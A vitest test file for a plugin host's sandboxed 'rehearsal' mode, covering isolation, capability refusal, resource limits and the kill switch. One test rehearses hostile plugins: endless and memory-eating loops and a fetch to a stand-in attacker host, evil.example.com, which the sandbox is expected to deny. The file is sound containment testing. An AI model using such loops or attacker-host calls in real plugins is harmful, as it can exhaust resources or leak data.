import { expect, test } from 'vitest';
import type { Host, RehearsedWorld } from '../../../src/index.js';
import { netHosts, netLog } from '../../fixtures/net.js';
import { PageChat } from '../permissions/page.js';
import { asking, STORE, tool } from '../permissions/plugins.js';
import { failure, plainHost, plugin, testHost } from '../setup.js';

const ALL = [
  STORE,
  { id: 'web', cap: 'net', hosts: ['api.example.com'], methods: ['GET', 'POST'], reason: 'r' },
  { id: 'see', cap: 'chat.read', reason: 'r' },
  { id: 'say', cap: 'chat.write', reason: 'r' },
  { id: 'think', cap: 'llm', reason: 'r' },
  { id: 'tell', cap: 'notify', reason: 'r' },
  { id: 'others', cap: 'tool.call', tools: ['dice'], reason: 'r' },
];

/** Everything that a host keeps and offers, as it can be seen from outside. */
const seen = async (host: Host) =>
  JSON.stringify([await host.plugins.list(), host.tools.list(), (await host.audit.query()).length]);

test('a rehearsed plugin runs in a real isolate, in the world it was given, and nothing is installed', async () => {
  await using host = testHost({ services: { chat: new PageChat() } });
  await host.plugins.install({ code: asking('data', [STORE], tool('old', 'read', 'return 1;')) });
  const before = await seen(host);
  const body = `
    const known = await ctx.storage.get('n');
    await ctx.storage.set('n', known + 1);
    const page = await ctx.net.fetch('https://api.example.com/a', { method: 'POST', body: 'hi' });
    const { messages } = await ctx.chat.read({});
    await ctx.chat.append({ text: 'there' });
    await ctx.notify('done');
    console.info('at work');
    return { known, page: await page.json(), first: messages[0].text, said: (await ctx.llm.complete({ prompt: '?' })).text,
      dice: await ctx.tools.call('dice', {}) };`;
  const rehearsal = await host.plugins.rehearse({ code: asking('data', ALL, tool('work', 'write', body)) });
  const world: RehearsedWorld = {
    storage: { n: 4 },
    net: [{ url: 'https://api.example.com/*', body: { warm: true } }],
    chat: [{ role: 'user', text: 'made up' }],
    llm: 'yes',
    tools: { dice: 6 },
  };
  const call = await rehearsal.call('work', {}, { world });
  expect(call.error).toBeUndefined();
  expect(call.value).toEqual({ known: 4, page: { warm: true }, first: 'made up', said: 'yes', dice: 6 });
  expect(call.log).toEqual([{ level: 'info', text: 'at work' }]);
  expect(call.effects).toEqual([
    { kind: 'storage', plugin: 'data', key: 'n', before: '4', after: '5' },
    { kind: 'net', plugin: 'data', method: 'POST', url: 'https://api.example.com/a', bytes: 2 },
    {
      kind: 'chat',
      plugin: 'data',
      chat: 'rehearsal',
      change: { op: 'append', role: 'assistant', text: 'there' },
    },
    { kind: 'notify', plugin: 'data', text: 'done' },
  ]);
  expect([...call.used].sort()).toEqual(['data', 'others', 'say', 'see', 'tell', 'think', 'web']);
  expect(call.refused).toEqual([]);
  // The next call finds a world of its own.
  const next = await rehearsal.call('work', {}, { world: { ...world, storage: { n: 9 } } });
  expect(next.value).toMatchObject({ known: 9, first: 'made up' });
  await rehearsal.end();
  expect(await seen(host)).toBe(before);
});

test('a rehearsal finds nothing of what a plugin of the same id has stored, and leaves that as it is', async () => {
  await using host = testHost();
  const code = asking(
    'notes',
    [STORE],
    tool('put', 'write', `await ctx.storage.set('k', args.v); return await ctx.storage.keys();`) +
      tool('see', 'read', `return [await ctx.storage.get('k'), await ctx.storage.keys()];`),
  );
  await host.plugins.install({ code }, { allow: 'all' });
  host.asks.onChange(() => {
    for (const { id, scopes } of host.asks.list()) host.asks.answer(id, scopes[0] ?? null);
  });
  await host.tools.execute('put', { v: 'real' });
  const rehearsal = await host.plugins.rehearse({ code });
  expect((await rehearsal.call('see', {})).value).toEqual([null, []]);
  expect((await rehearsal.call('put', { v: 'tried' })).value).toEqual(['k']);
  await rehearsal.end();
  expect((await host.tools.execute('see', {})).value).toEqual(['real', ['k']]);
});

test('the memory of a rehearsal is real, holds what the world says, and is another for each call', async () => {
  const chat = 'tavern';
  await using host = plainHost({ services: { memory: { current: () => chat } } });
  const real = await host.memory.openSession(chat);
  await real.createNode({ type: 'character_sheet', title: 'Real', fields: { traits: 'secret' } });
  const memory = [
    { id: 'recall', cap: 'memory.read', reason: 'r' },
    { id: 'learn', cap: 'memory.write', reason: 'r' },
  ];
  const find = `const found = await ctx.memory.keywordSearch({ query: args.name, k: 5 }); const names = found.map(({ title }) => title);`;
  const make = `const { id } = await ctx.memory.createNode({ type: 'character_sheet', title: 'Bob', fields: { traits: 'calm' } });`;
  const code = asking('noter', memory, tool('note', 'write', `${find} ${make} return { names, made: id !== '' };`));
  const rehearsal = await host.plugins.rehearse({ code });
  expect(rehearsal.forbidden).toEqual([]);
  const world: RehearsedWorld = { memory: [{ type: 'character_sheet', title: 'Alice', fields: { traits: 'brave' } }] };
  for (const name of ['Alice', 'Bob', 'Real']) {
    const call = await rehearsal.call('note', { name }, { world });
    expect(call.error).toBeUndefined();
    expect(call.value).toEqual({ names: name === 'Alice' ? ['Alice'] : [], made: true });
    expect(call.used).toEqual(['recall', 'learn']);
    const changes = call.effects.map((effect) => (effect.kind === 'memory' ? effect.change.after : effect.kind));
    expect(changes).toHaveLength(1);
    expect(JSON.parse(changes[0] ?? '')).toMatchObject({ title: 'Bob', fields: { traits: 'calm' } });
  }
  await rehearsal.end();
  expect(await real.keywordSearch({ query: 'Bob', k: 5 })).toEqual([]);
});

test('a world that is none is refused, and named', async () => {
  await using host = plainHost();
  const rehearsal = await host.plugins.rehearse({ code: plugin('return 1;') });
  const worlds = [
    { storage: [] },
    { net: [{}] },
    { chat: [{ role: 'nobody', text: '' }] },
    { memory: {} },
    { llm: 1 },
    { tools: null },
  ];
  for (const world of worlds) {
    const error = await failure(rehearsal.call('main', {}, { world: world as never }));
    expect(error).toMatchObject({ code: 'BAD_ARGS' });
    expect(error.message).toContain(`world.${Object.keys(world)[0]}`);
  }
  expect((await rehearsal.call('main', {})).value).toBe(1);
  await rehearsal.end();
});

test('no request of a rehearsed plugin leaves the page, and what is not in its manifest is refused', async () => {
  await using host = plainHost();
  const { first: open } = await netHosts();
  const key = `rehearsal-${Date.now()}`;
  const asked = [{ id: 'web', cap: 'net', hosts: [open], methods: ['GET', 'POST'], reason: 'r' }];
  const body = `
    const codes = [];
    for (const [url, method] of args.calls) {
      try { await ctx.net.fetch(url, { method }); codes.push('sent'); } catch ({ code }) { codes.push(code); }
    }
    try { await ctx.storage.get('k'); } catch ({ code }) { codes.push(code); }
    return codes;`;
  const rehearsal = await host.plugins.rehearse({ code: asking('sender', asked, tool('go', 'write', body)) });
  const calls = [
    [`http://${open}/echo?key=${key}`, 'GET'],
    [`http://${open}/echo?key=${key}`, 'POST'],
    ['https://elsewhere.example.com/', 'GET'],
  ];
  const call = await rehearsal.call('go', { calls });
  expect(call.value).toEqual(['NET_FAILED', 'NET_FAILED', 'CAPABILITY_DENIED', 'CAPABILITY_DENIED']);
  expect(call.refused).toEqual(['storage.get', 'GET elsewhere.example.com']);
  expect(call.effects.map((effect) => ('method' in effect ? effect.method : effect.kind))).toEqual(['GET', 'POST']);
  expect(JSON.stringify(await netLog())).not.toContain(key);
  await rehearsal.end();
});

test('whatever a rehearsed plugin does, it is held, told by its code, and the host goes on', async () => {
  await using host = testHost({ limits: { cpuMs: 300, timeoutMs: 1_000 } });
  await host.plugins.install({ code: plugin('return 1;', 'good') });
  const rehearsal = await host.plugins.rehearse({
    code: [
      plugin('for (;;);', 'loop'),
      plugin('const all = []; for (;;) all.push(new Array(1e5).fill(1));', 'eat'),
      plugin('await new Promise(() => {});', 'wait'),
      plugin("return fetch('https://evil.example.com/?' + 1);", 'reach'),
    ].join(''),
  });
  const codes: unknown[] = [];
  for (const name of ['loop', 'eat', 'wait', 'reach']) codes.push((await rehearsal.call(name, {})).error?.code);
  expect(codes).toEqual(['TOOL_TIMEOUT', 'TOOL_MEMORY', 'TOOL_TIMEOUT', 'CAPABILITY_DENIED']);
  expect((await host.tools.execute('good', {})).value).toBe(1);
  await rehearsal.end();
  expect((await host.plugins.list()).map(({ state, strikes }) => [state, strikes])).toEqual([['on', 0]]);
});

test('a source that never loads is refused with its code, and so is a tool whose name is another’s', async () => {
  await using host = testHost({ limits: { loadMs: 300 } });
  await host.plugins.install({ code: plugin('return 1;', 'mine') });
  const rehearse = (code: string) => failure(host.plugins.rehearse({ code }));
  expect((await rehearse('for (;;);')).code).toBe('TOOL_TIMEOUT');
  expect((await rehearse('const x = ;')).code).toBe('SOURCE_SYNTAX');
  expect((await rehearse(asking('bad', [{ id: 'x', cap: 'root', reason: 'r' }], plugin('')))).code).toBe(
    'MANIFEST_INVALID',
  );
  expect((await rehearse(asking('other-one', [], plugin('return 2;', 'mine')))).code).toBe('NAME_TAKEN');
  expect(host.status().calls).toBe(0);
});

test('the kill switch, a stop and an abort end what is rehearsed', async () => {
  await using host = plainHost();
  const code = plugin('await new Promise(() => {});');
  const rehearse = async () => {
    const rehearsal = await host.plugins.rehearse({ code });
    return { rehearsal, call: failure(rehearsal.call('main', {})) };
  };
  const stopped = await rehearse();
  await host.stopAll();
  expect((await stopped.call).code).toBe('STOPPED');

  const rehearsal = await host.plugins.rehearse({ code });
  const controller = new AbortController();
  const call = failure(rehearsal.call('main', {}, { signal: controller.signal }));
  controller.abort(new Error('enough'));
  expect((await call).message).toBe('enough');
  await rehearsal.end();

  const killed = await rehearse();
  await host.kill();
  expect((await killed.call).code).toBe('STOPPED');
  expect((await failure(host.plugins.rehearse({ code }))).code).toBe('PLUGIN_DISABLED');
});

test('what this host would not grant is named', async () => {
  await using host = plainHost({ policy: { forbid: ['net'] } });
  const rehearsal = await host.plugins.rehearse({ code: asking('all-of-it', ALL, tool('go', 'read', 'return 1;')) });
  expect(rehearsal.forbidden).toEqual([
    { permission: 'web', why: 'policy' },
    ...['see', 'say', 'think', 'tell'].map((permission) => ({ permission, why: 'not-provided' })),
  ]);
  await rehearsal.end();
});

test('the source of an installed plugin can be read', async () => {
  await using host = plainHost();
  const code = plugin('return 1;');
  const { id } = await host.plugins.install({ code });
  expect(await host.plugins.source(id)).toBe(code);
  expect((await failure(host.plugins.source('nobody'))).code).toBe('PLUGIN_NOT_FOUND');
});
